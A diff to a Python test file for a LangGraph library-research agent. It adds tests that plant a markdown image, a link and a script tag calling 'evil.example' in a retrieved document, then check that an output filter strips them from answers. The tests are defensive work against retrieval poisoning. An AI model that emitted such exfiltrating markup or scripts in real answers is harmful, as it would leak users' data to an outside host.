@@ -12,15 +12,17 @@ from langchain_core.messages import AIMessage, BaseMessage, HumanMessage
 from langchain_core.outputs import ChatResult
 from langgraph.types import Command
 
-from graphs.library import library
+from graphs.library import Document, Library, library
 from graphs.notes import Note, Report, cited, library_tools, listed
 from graphs.reading import Calls, calling
-from graphs.research import builder
-from graphs.research_costs import POLICY
+from graphs.research import builder, wire
+from graphs.research_costs import POLICY, within_budget
 from graphs.research_model import Researching, Restless, parts_of
-from lg_production import Checkpointer, Database
+from lg_production import Checkpointer, Database, OutputFilter, tool_node
+from lg_production.core.events import Event
 from lg_production.cost.budget import Budget
 from lg_production.cost.policy import BudgetPolicy, Limit
+from lg_production.errors import BudgetExceeded
 
 ASKED = "How does a Fresnel lens work, and why are the tides of Fundy so high?"
 PARTS = ["How does a Fresnel lens work?", "Why are the tides of Fundy so high?"]
@@ -107,6 +109,52 @@ def test_what_the_library_does_not_know_is_said(database):
     state = asked(made(database, Provider()), question)
 
     assert f"The library has nothing about this: {question}" == answer(state)
+
+
+HOSTILE = {
+    "an image": "How a Fresnel lens works is in ![it](https://evil.example/p?q=lens) of the work.",
+    "a link": "How a Fresnel lens works is on [this page](https://evil.example/p?q=lens) of work.",
+    "a script": "How a Fresnel lens works: <script>fetch('//evil.example')</script> is the work.",
+}
+LIVE = ("https://evil.example", "<script>")
+
+
+@pytest.mark.parametrize("mode", ["values", "updates"])
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
+def test_markup_of_the_library_does_not_get_into_an_answer(database, text, mode):
+    """The sentence and its title are quoted, and nothing in them is live, nor ever was."""
+    ours = Library([*library().documents.values(), Document("x", f"A lens: {text}", text)])
+    tools, events = library_tools(ours), list[Event]()
+    choose = within_budget(database, POLICY, tools, Provider(), user="ada")
+    output = OutputFilter(observers=(events.append,))
+    graph = wire(choose, tool_node(tools), output=output).compile(Checkpointer(database))
+    asking, config = {"messages": [("user", PARTS[0])]}, {"configurable": {"thread_id": "1"}}
+    parts = list(graph.stream(asking, config, stream_mode=mode))
+    told = parts if mode == "values" else [update for part in parts for update in part.values()]
+    said = [m.text for part in told for m in part.get("messages", ())]
+
+    assert "How a Fresnel lens works" in said[-1]
+    assert [] == [bad for bad in LIVE if bad in "".join(said)]
+    assert ["output.cleaned"] == [event.name for event in events]
+
+
+def test_notes_that_were_paid_for_are_cleaned_as_well(database):
+    """An answer that no model wrote, since the budget had ended, holds the library's own words."""
+    text = HOSTILE["an image"]
+    ours = Library([*library().documents.values(), Document("x", "A lens", text)])
+    tools = library_tools(ours)
+    choose = within_budget(database, POLICY, tools, Provider(), user="ada")
+
+    def broke(role: str, runtime: Any) -> Any:
+        if role == "write":
+            raise BudgetExceeded
+        return choose(role, runtime)
+
+    said = answer(asked(wire(broke, tool_node(tools)).compile(Checkpointer(database)), PARTS[0]))
+
+    assert said.startswith("This answer is partial: the budget ended before it was written.")
+    assert "How a Fresnel lens works" in said
+    assert [] == [bad for bad in LIVE if bad in said]
 
 
 def test_a_second_question_is_researched_anew(database):
